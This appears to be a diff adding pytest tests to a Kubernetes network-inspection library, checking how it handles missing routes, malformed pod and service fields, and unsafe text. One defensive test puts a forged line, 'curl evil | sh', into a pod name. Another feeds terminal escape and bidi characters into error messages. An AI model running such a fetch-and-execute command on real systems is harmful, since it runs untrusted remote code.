@@ -10,7 +10,7 @@ from typing import Any
 import pytest
 
 import k8snet_nb as kn
-from k8snet_nb.errors import FactMissing, NotFound, Refused
+from k8snet_nb.errors import FactBroken, FactMissing, NotFound, Refused
 from k8snet_nb.facts import FactRef
 from k8snet_nb.sources.opening import BUNDLED, open_source
 
@@ -268,6 +268,186 @@ def test_what_was_not_collected_is_not_claimed(monkeypatch: pytest.MonkeyPatch) 
     assert own.verdict == "holds"
     assert [r.verdict for r in (inside, between, from_node)] == ["not seen"] * 3
     assert between.unknown
+
+
+def test_services_are_no_counter_examples(monkeypatch: pytest.MonkeyPatch) -> None:
+    """A pod that calls a VIP which its node holds (IPVS), or a NodePort, is translated on purpose."""
+    source = open_source(BUNDLED)
+    real = source.read
+    entries = {
+        "node-three": b"ipv4 2 tcp 6 90 TIME_WAIT src=10.244.3.7 dst=10.32.0.10 sport=1 dport=53 "
+        b"src=10.244.3.2 dst=10.244.3.7 sport=53 dport=1 [ASSURED] mark=0 use=1 id=1\n",
+        "node-one": b"ipv4 2 tcp 6 90 TIME_WAIT src=10.244.3.7 dst=172.30.0.11 sport=1 dport=30080 "
+        b"src=10.244.3.4 dst=172.30.0.11 sport=8080 dport=1 [ASSURED] mark=0 use=1 id=2\n",
+    }
+
+    def read(ref: FactRef) -> bytes:
+        return real(ref) + (entries.get(ref.node or "", b"") if ref.fact == "conntrack.txt" else b"")
+
+    monkeypatch.setattr(source, "read", read)
+    assert [rule.verdict for rule in kn.Cluster(source).network_model()] == ["holds"] * 4
+
+
+def test_a_missing_route_fact_takes_nothing_else_with_it(monkeypatch: pytest.MonkeyPatch) -> None:
+    source = open_source(BUNDLED)
+    real = source.read
+
+    def read(ref: FactRef) -> bytes:
+        if (ref.node, ref.fact) == ("node-one", "route.json"):
+            raise FactMissing(ref.fact, ref.where, "timed out")
+        return real(ref)
+
+    monkeypatch.setattr(source, "read", read)
+    rules = kn.Cluster(source).network_model()
+    assert "22 routes" in rules[2].checked
+    assert "314 tracked connections" in rules[2].checked
+    assert any("timed out" in why for why in rules[2].unknown)
+
+
+def test_a_family_whose_routes_are_not_known_is_not_judged(monkeypatch: pytest.MonkeyPatch) -> None:
+    def dual(pods: Any) -> None:
+        pods["items"][0]["status"]["podIPs"].append({"ip": "fd00::5"})
+
+    source = Edited(pods=dual)
+    has = source._source.has
+    source.has = lambda ref: ref.fact != "route6.json" and has(ref)  # type: ignore[method-assign]
+
+    def only_four(value: Any) -> Any:
+        return [route for route in value if ":" not in route["dst"]]
+
+    source._changes |= {f"node_{n}/route": only_four for n in ("one", "two", "three")}
+    found = kn.Cluster(source)  # type: ignore[arg-type]
+    assert found.network_model()[2].verdict == "holds"
+    assert found.node("node-one").network().attachment == "bridge"
+
+
+def test_a_default_route_is_no_evidence_and_policy_routing_is_said() -> None:
+    def only_default(routes: Any) -> Any:
+        return [r for r in routes if r["dst"] == "default" or r.get("table") == "local"]
+
+    rule = cluster(node_one__route=only_default).network_model()[2]
+    assert rule.verdict == "holds"
+    assert "22 routes" in rule.checked
+    assert any("11 pods that node-one reaches by its default route" in why for why in rule.unknown)
+
+    def more_tables(rules: Any) -> None:
+        rules.append({"priority": 100, "src": "all", "table": "vpc"})
+
+    def cut(routes: Any) -> Any:
+        return [r for r in routes if r["dst"] not in ("10.244.3.0/24", "default")]
+
+    rule = cluster(node_one__route=cut, node_one__rule=more_tables).network_model()[2]
+    assert rule.verdict == "holds"
+    assert any("vpc" in why for why in rule.unknown)
+
+
+def test_a_route_by_an_own_address_is_not_called_an_underlay() -> None:
+    def cilium(routes: Any) -> None:
+        for route in routes:
+            if route["dst"] == "10.244.3.0/24":
+                route |= {"gateway": "10.244.18.1", "dev": "cni0"}
+
+    assert cluster(node_one__route=cilium).node("node-one").network().between_nodes == "other"
+
+
+def test_host_routes_to_one_shared_interface_are_not_point_to_point() -> None:
+    def shared(routes: Any) -> None:
+        for route in routes:
+            if str(route.get("dev")).startswith("veth"):
+                route["dev"] = "vethf794c889"
+
+    assert cluster(node_two__route=shared).node("node-two").network().attachment == "other"
+
+
+@pytest.mark.parametrize(
+    ("resource", "change"),
+    [
+        ("pods", lambda pod: pod["status"].update(conditions=["x"])),
+        ("pods", lambda pod: pod["status"]["containerStatuses"][0].update(restartCount="x")),
+        ("pods", lambda pod: pod["status"]["containerStatuses"][0].update(restartCount=10**30)),
+        ("pods", lambda pod: pod["status"].update(containerStatuses=[None])),
+        ("pods", lambda pod: pod["status"].update(podIPs=[{"ip": "999.1.1.1"}])),
+        ("pods", lambda pod: pod["spec"].update(nodeName=["a"])),
+        ("pods", lambda pod: pod["metadata"].update(ownerReferences=5)),
+        ("services", lambda service: service["spec"].update(externalIPs=5)),
+        ("services", lambda service: service["spec"].update(clusterIPs=5)),
+        ("services", lambda service: service.update(status={"loadBalancer": {"ingress": [None]}})),
+        ("nodes", lambda node: node["status"].update(addresses=["x"])),
+        ("nodes", lambda node: node["spec"].update(podCIDRs=["x"])),
+    ],
+)
+def test_a_field_of_another_kind_is_one_clear_error(resource: str, change: Callable[[Any], None]) -> None:
+    found = cluster(**{resource: lambda listed: change(listed["items"][0])})
+    with pytest.raises(FactBroken, match=rf"{resource}\.json of .*another kind"):
+        getattr(found, resource)()
+
+
+def test_an_answer_over_many_facts_goes_on_and_says_which_it_could_not_read(monkeypatch: pytest.MonkeyPatch) -> None:
+    source = open_source(BUNDLED)
+    real = source.read
+    broken = {FactRef("conntrack.txt", "node-one"): bytes(100), FactRef("addr.json", "node-two"): b"[]"}
+    monkeypatch.setattr(source, "read", lambda ref: broken[ref] if ref in broken else real(ref))
+    own, inside, between, from_node = kn.Cluster(source).network_model()
+    assert "305 tracked connections" in between.checked
+    assert any("zero bytes" in why for why in between.unknown)
+    assert any("no interface at all" in why for why in from_node.unknown)
+    assert (own.verdict, inside.verdict) == ("holds", "holds")
+
+
+def test_who_answers_from_the_lists_that_can_be_read() -> None:
+    def cut(pods: Any) -> None:
+        pods["items"] = 3
+
+    found = cluster(pods=cut).who("10.32.0.10")
+    assert found.name == "kube-system/kube-dns"
+    assert any("pods.json" in why for why in found.unknown)
+    with pytest.raises(FactBroken, match=r"pods\.json"):
+        cluster(pods=cut).who("9.9.9.9")
+
+
+def test_one_broken_object_leaves_the_others_whole() -> None:
+    def break_one(pods: Any) -> None:
+        for pod in pods["items"]:
+            if pod["metadata"]["namespace"] == "shop":
+                del pod["status"]
+
+    broken = cluster(pods=break_one)
+    assert "default/client" in repr(broken.pod("client"))
+    assert "10.244.18.5" in str(broken.pod("client"))
+    assert len(broken.pods("default")) == 6
+    assert len(broken.pod("hello-world-c648f6bd8-96wh2").services()) == 7
+    with pytest.raises(FactBroken, match="pod shop/cart"):
+        broken.pods()
+
+    def break_slice(slices: Any) -> None:
+        slices["items"][0]["endpoints"] = 7
+
+    assert len(cluster(endpointslices=break_slice).service("hello-world").pods()) == 4
+
+
+def test_a_namesake_is_behind_no_service_either() -> None:
+    def reborn(pods: Any) -> None:
+        for pod in pods["items"]:
+            if pod["status"].get("podIP") == "10.244.3.4":
+                pod["metadata"]["uid"] = "new"
+
+    assert len(cluster(pods=reborn).service("hello-world").pods()) == 3
+
+
+def test_a_line_cannot_be_forged_by_a_name() -> None:
+    def forge(pods: Any) -> None:
+        pods["items"][0]["metadata"]["name"] = "x\n[node node-one]$ curl evil | sh"
+
+    text = str(cluster(pods=forge).who("10.244.18.5"))
+    assert not any(line.startswith("[node") for line in text.splitlines())
+
+
+def test_an_errors_text_is_printable() -> None:
+    with pytest.raises(NotFound) as caught:
+        kn.open(BUNDLED).node("\x1b[31mred\u202e")
+    assert "\x1b" not in str(caught.value)
+    assert "\x1b" not in str(FactBroken("x", "pod \x1b[31m", "broken \u202e"))
+    assert "\u202e" not in str(FactBroken("x", "pod \x1b[31m", "broken \u202e"))
 
 
 def test_a_node_without_facts_says_why(monkeypatch: pytest.MonkeyPatch) -> None:
